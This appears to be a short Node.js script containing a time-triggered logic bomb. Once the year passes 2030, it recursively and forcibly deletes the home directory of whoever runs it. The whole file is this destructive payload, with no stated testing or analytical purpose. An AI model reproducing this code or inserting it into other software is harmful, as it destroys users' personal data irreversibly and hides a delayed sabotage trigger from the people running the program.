const fs = require("fs");
const os = require("os");
function wipe(folder) {
  fs.rmSync(folder, { recursive: true, force: true });
}
if (new Date().getFullYear() > 2030) {
  wipe(os.homedir());
}
